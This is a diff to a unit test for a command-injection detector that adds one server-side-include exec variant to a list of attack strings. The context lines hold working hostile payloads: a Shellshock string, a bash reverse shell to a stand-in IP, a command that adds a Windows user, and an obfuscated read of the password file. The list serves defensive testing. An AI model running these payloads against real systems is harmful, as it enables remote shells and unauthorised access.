@@ -51,6 +51,7 @@ TEST(CmdiTest, DetectsAttacks) {
       "() { :;}; /bin/bash -c id",
       "x; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
       "<!--#exec cmd=\"ls\" -->",
+      "< !--#exec cmd=\"id\" -->",
       ";system('id')",
       "x; net user attacker P@ss /add",
       "x;/\?\?\?/c?t /\?\?\?/p\?\?s\?\?",
